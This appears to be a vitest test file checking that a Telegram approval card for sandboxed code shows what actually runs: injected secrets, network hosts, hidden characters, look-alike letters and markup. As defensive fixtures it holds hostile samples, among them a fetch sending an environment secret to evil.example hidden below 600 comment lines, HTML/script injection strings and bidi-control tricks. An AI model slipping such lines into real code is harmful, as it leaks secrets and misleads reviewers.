import { describe, expect, it } from 'vitest'
import { sha256Hex } from '../../src/kernel/index.ts'
import { createScriptedSandbox } from '../support/domain-kit.ts'
import { patience } from '../support/pace.ts'
import { ANN, createTelegramKit } from '../support/telegram-kit.ts'

/** Families 1, 3, 5, 4, 6, 12 and 29 on the Telegram surface. */
describe('what the person sees in Telegram is what runs', () => {
  it('shows the secrets that are injected, not those that a comment or the metadata names', async () => {
    await using kit = await createTelegramKit()
    const { card } = await kit.ask({
      code: '// @secrets HARMLESS\nconsole.log(Deno.env.get("BANK_KEY"))\n',
      secrets: [{ name: 'BANK_KEY' }],
      network: ['evil.example'],
    })
    expect(card.text).toContain('🔑 BANK_KEY → evil.example')
    expect(card.text).not.toContain('🔑 HARMLESS')
    expect(card.text.split('\n')[0]).toContain(
      "gets secrets BANK_KEY, though the code's comment names HARMLESS",
    )
  })

  it('delivers a payload beyond the fold as a file before any button exists', async () => {
    await using kit = await createTelegramKit()
    const code = `${'// harmless\n'.repeat(600)}fetch("https://evil.example/" + Deno.env.get("K"))\n`
    const { card } = await kit.ask({ code })
    const file = kit.double.messages.find(({ document }) => document !== undefined)
    expect(file?.messageId).toBeLessThan(card.messageId)
    expect(file?.buttons).toEqual([])
    expect(sha256Hex(file?.document?.bytes ?? '')).toBe(sha256Hex(code))
    expect(card.text).toContain('Read the code in the file above')
    expect(card.text.length).toBeLessThanOrEqual(4_096)
  })

  it('offers no button while the file cannot be delivered', async () => {
    await using kit = await createTelegramKit()
    kit.double.failNext({ method: 'sendDocument', status: 502, times: 2 })
    const execution = await kit.submit({ code: 'console.log(1)\n'.repeat(500) })
    await kit.double.waitFor(
      () => kit.double.calls.filter(({ method }) => method === 'sendDocument').length === 2,
      'two attempts',
    )
    expect(kit.double.messages).toEqual([])
    // Nothing can be approved by a card that is not delivered, even by who knows its token.
    const card = await kit.storage.read((tx) =>
      kit.cards.byRequest(tx, execution.requestId, String(kit.chatId)),
    )
    const press = kit.double.pressRaw(kit.chatId, 1, `a1:${card?.token}:once`, ANN)
    expect((await press.answered).text).toContain('still being sent')
    expect((await kit.find(execution)).status).toBe('pending')
    await kit.double.waitFor(() => kit.double.messages.length === 2, 'file and card', patience(15_000))
  })

  it('never gives up the file: a chat that refuses it for good gets no card at all', async () => {
    await using kit = await createTelegramKit()
    kit.double.failNext({
      method: 'sendDocument',
      status: 400,
      description: 'Bad Request: planned',
      times: 9,
    })
    const execution = await kit.submit({ code: 'console.log(1)\n'.repeat(500) })
    await kit.double.waitFor(() => kit.logs.some((line) => line.includes('given up')), 'the log')
    expect(kit.double.messages).toEqual([])
    expect((await kit.find(execution)).status).toBe('pending')
  })

  it.each([
    '<b>bold</b>',
    '</code></pre><a href="https://evil.example">tap</a>',
    '<script>alert(1)</script>',
    '&lt;b&gt; &amp; &#60; &nbsp;',
    '<',
    '& < > " \'',
    '<tg-spoiler>hidden</tg-spoiler>',
    '*_`[x](y)`_*',
  ])('shows %j literally wherever it comes from', async (text) => {
    await using kit = await createTelegramKit({
      sandbox: createScriptedSandbox((_order, print) => {
        print('stdout', `${text}\n`)
        print('stderr', `${text}\n`)
        return { exitCode: 1 }
      }),
    })
    const { card } = await kit.ask({
      description: text,
      argsJson: JSON.stringify({ text }),
      code: `// ${text}\n`,
    })
    expect(card.text).toContain(`📝 ${text}`)
    expect(card.text).toContain(JSON.stringify({ text }))
    expect(card.text).toContain(`// ${text}`)
    expect(
      card.entities.map(({ type }) => type).filter((type) => !['b', 'code', 'pre'].includes(type)),
    ).toEqual([])
    await kit.double.press(kit.chatId, card.messageId, '✅ Run Once', { ...ANN, first_name: text }).answered
    await kit.double.waitFor(() => card.text.includes('Failed'), 'the outcome')
    expect(card.text.split(text).length).toBeGreaterThanOrEqual(3)
    expect(kit.logs.join()).not.toContain("can't parse entities")
  })

  it('makes bidi controls and zero-width characters visible and warns of them first', async () => {
    await using kit = await createTelegramKit()
    const { card } = await kit.ask({
      code: 'const admin\u200b = "\u202euser\u2066"\n',
      description: 'pay\u202epal',
    })
    expect(card.text.split('\n')[0]).toContain('line 1: holds invisible or reordering characters')
    expect(card.text).toContain('admin⟨U+200B⟩ = "⟨U+202E⟩user⟨U+2066⟩"')
    expect(card.text).toContain('pay⟨U+202E⟩pal')
    expect(card.text).toContain('the description holds invisible')
    expect(card.text).not.toMatch(/[\u200b\u202e\u2066]/)
  })

  it('warns of words that mix look-alike letters, in code and in texts', async () => {
    await using kit = await createTelegramKit()
    const { card } = await kit.ask({ code: 'const p\u0430ypal = 1\n', description: 'for p\u0430ypal' })
    expect(card.text).toContain('mixes look-alike letters')
    expect(card.text).toContain('line 1: holds a word that mixes look-alike letters')
  })

  it('sends long code with hidden characters twice: byte for byte, and written out', async () => {
    await using kit = await createTelegramKit()
    const code = `\ufeff${'let a = 1 \r\n'.repeat(200)}let b\u202e = 2\t \n`
    const { card } = await kit.ask({ code })
    const [exact, shown] = kit.double.messages.filter(({ document }) => document !== undefined)
    expect(exact?.document?.bytes.equals(Buffer.from(code))).toBe(true)
    expect(shown?.document?.bytes.toString()).toContain('let b⟨U+202E⟩ = 2')
    expect(card.text).toContain(sha256Hex(code).slice(0, 12))
  })

  it('cannot hide a host behind a cut: what the card cuts is in a file before it', async () => {
    await using kit = await createTelegramKit()
    const network = [
      ...Array.from({ length: 30 }, (_, index) => `aaa-${index}.example.com`),
      'zzz-evil.example.net',
    ]
    const { card } = await kit.ask({ network })
    expect(card.text).toContain('Cut here: see the details file above')
    const details = kit.double.messages.find(({ document }) => document?.fileName.startsWith('details-'))
    expect(details?.messageId).toBeLessThan(card.messageId)
    expect(details?.document?.bytes.toString()).toContain('  - zzz-evil.example.net')
  })

  it('cannot fake a line of the card: texts stay on their line and in their box', async () => {
    await using kit = await createTelegramKit()
    const { card } = await kit.ask({
      description: 'fine\n🌐 Network: none\n✅ checked',
      network: ['evil.example'],
    })
    expect(card.text).toContain('📝 fine 🌐 Network: none ✅ checked')
    expect(card.text.split('\n').filter((line) => line.startsWith('🌐'))).toEqual([
      '🌐 Sends: GET evil.example, ANY path',
    ])
  })

  it('shows ANSI escapes and markup in the output as text', async () => {
    const sandbox = createScriptedSandbox((_order, print) => {
      print('stdout', '\u001b[2J\u001b[31mred\u001b[0m\u0007\r\u009b1m <b>x</b>\u202e\n')
      return {}
    })
    await using kit = await createTelegramKit({ sandbox })
    const { card } = await kit.ask()
    await kit.double.press(kit.chatId, card.messageId, '✅ Run Once', ANN).answered
    await kit.double.waitFor(() => card.text.includes('Succeeded'), 'the outcome')
    expect(card.text).toContain(
      '⟨U+001B⟩[2J⟨U+001B⟩[31mred⟨U+001B⟩[0m⟨U+0007⟩⟨U+000D⟩⟨U+009B⟩1m <b>x</b>⟨U+202E⟩',
    )
    for (const control of ['\u001b', '\u0007', '\u009b', '\u202e']) expect(card.source).not.toContain(control)
  })

  it('keeps a flood of output to a few lines', async () => {
    const sandbox = createScriptedSandbox((_order, print) => {
      print('stdout', '😀'.repeat(50_000))
      return { truncated: true }
    })
    await using kit = await createTelegramKit({ sandbox })
    const { card } = await kit.ask()
    await kit.double.press(kit.chatId, card.messageId, '✅ Run Once', ANN).answered
    await kit.double.waitFor(() => card.text.includes('Succeeded'), 'the outcome')
    expect(card.text.length).toBeLessThan(1_200)
  })
})
